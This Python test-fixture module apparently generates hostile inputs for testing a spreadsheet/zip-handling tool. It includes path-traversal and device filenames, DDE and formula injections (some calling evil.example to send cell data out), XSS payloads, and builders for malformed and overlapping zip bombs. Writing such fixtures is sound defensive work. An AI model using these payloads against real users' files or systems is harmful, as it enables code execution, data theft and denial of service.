"""Hostile files, made on the spot: every case that strangers may send, none of them stored."""

import io
import struct
import zlib
from collections.abc import Mapping, Sequence
from dataclasses import dataclass

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

NAMES = {
    "absolute": "/etc/cron.d/教育局.xlsx",
    "parent": "../../../../教育局.xlsx",
    "backslash": "..\\..\\启动\\教育局.xlsx",
    "drive": "C:\\Windows\\教育局.xlsx",
    "drive relative": "C:教育局.xlsx",
    "unc": "\\\\server\\share\\教育局.xlsx",
    "device path": "\\\\.\\PhysicalDrive0",
    "NUL": "教育局\0.exe.xlsx",
    "CON": "CON.xlsx",
    "aux": "aux",
    "nul in a folder": "nul/教育局.xlsx",
    "COM1": "com1.tar.xlsx",
    "stream": "教育局.xlsx:evil.exe",
    "trailing dots": "教育局.xlsx...",
    "trailing spaces": "教育局.xlsx   ",
    "only dots": "..",
    "only spaces": "   ",
    "empty": "",
    "over 255 bytes": "县" * 300 + ".xlsx",
    "deep": "a/" * 300 + "教育局.xlsx",
    "right to left": "教育局\u202excod\u202c.xlsx",
    "bidi isolate": "\u2066教育局\u2069.xlsx",
    "zero width": "教\u200b育\ufeff局.xlsx",
    "escape": "\x1b[2J\x1b]0;owned\x07教育局.xlsx",
    "c1 escape": "\x9b31m教育局.xlsx",
    "newline": "教育局\n[green]按时[/green].xlsx",
    "markup": "[bold red]教育局[/].xlsx",
    "tag": "<img src=x onerror=alert(1)>.xlsx",
    "formula": "=HYPERLINK(A1,2).xlsx",
    "dde": "=cmd|' /C calc'!A0.xlsx",
    "wildcard": "*?.xlsx",
    "surrogate": "教育局\udc80.xlsx",
    "partial": "教育局.xlsx.part",
}
"""What goes wrong → a name that does it."""

INJECTIONS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1,"点这里")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "{=1+1}",
    "=1+1",
)
"""Texts that a spreadsheet would run, were they written as anything but texts."""
PAGE_INJECTIONS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "{{ 7*7 }}{% raw %}",
    ']]><w:fldSimple w:instr="DDEAUTO c:\\\\a.exe"/>',
    "http://evil.example/x",
    "\\\\evil\\share",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Part:
    """One member of a zip, written field by field, so that every one of them can lie."""

    name: bytes
    data: bytes = b""
    method: int = 8
    declared: int | None = None
    """Size that the directory claims; None = the true one."""
    crc: int | None = None
    flags: int = 0x800
    mode: int = 0o100644
    at: int | None = None
    """Where the directory says its local header stands; None = the truth."""
    packed: bytes | None = None


def zipped(parts: Sequence[Part], *, comment: bytes = b"") -> bytes:
    """Return a zip of these members, lies included."""
    out, lines = io.BytesIO(), []
    for part in parts:
        packed = part.packed if part.packed is not None else _packed(part)
        size = len(part.data) if part.declared is None else part.declared
        crc = zlib.crc32(part.data) if part.crc is None else part.crc
        at = out.tell() if part.at is None else part.at
        fields = (20, part.flags, part.method, 0, 0x21, crc, len(packed), size, len(part.name), 0)
        out.write(struct.pack("<4s5H3I2H", b"PK\3\4", *fields) + part.name + packed)
        line = struct.pack("<4s6H3I5H2I", b"PK\1\2", 0x314, 20, *fields[1:9], 0, 0, 0, 0, part.mode << 16 & 0xFFFFFFFF, at)
        lines.append(line + part.name)
    start = out.tell()
    directory = b"".join(lines)
    count = len(lines) & 0xFFFF
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(directory), start, len(comment))
    return out.getvalue() + directory + end + comment


def _packed(part: Part) -> bytes:
    return deflated(part.data) if part.method == 8 else part.data


def deflated(data: bytes) -> bytes:
    machine = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return machine.compress(data) + machine.flush()


def plain_zip(members: Mapping[str, bytes]) -> bytes:
    return zipped([Part(name=name.encode("utf-8", "surrogateescape"), data=data) for name, data in members.items()])


def zeros(size: int) -> bytes:
    """Return so many zeros, deflated, without ever holding them."""
    machine = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    piece, found = bytes(1 << 16), []
    found = [machine.compress(piece) for _ in range(size >> 16)]
    return b"".join([*found, machine.compress(bytes(size & 0xFFFF)), machine.flush()])


def nested(depth: int, inside: bytes, name: str = "教育局.xlsx") -> bytes:
    """Return a zip in a zip in a zip."""
    for level in range(depth):
        inside = plain_zip({name if level == 0 else f"{level}.zip": inside})
    return inside


def overlapping(size: int = 4 << 20, copies: int = 30) -> bytes:
    """Return a zip whose directory names one and the same member many times (Fifield's way)."""
    kernel = deflated(bytes(size))
    one = Part(name=b"0.bin", packed=kernel, declared=size, crc=0)
    rest = [Part(name=f"{n}.bin".encode(), packed=b"", declared=size, crc=0, at=0) for n in range(1, copies)]
    return zipped([one, *rest])
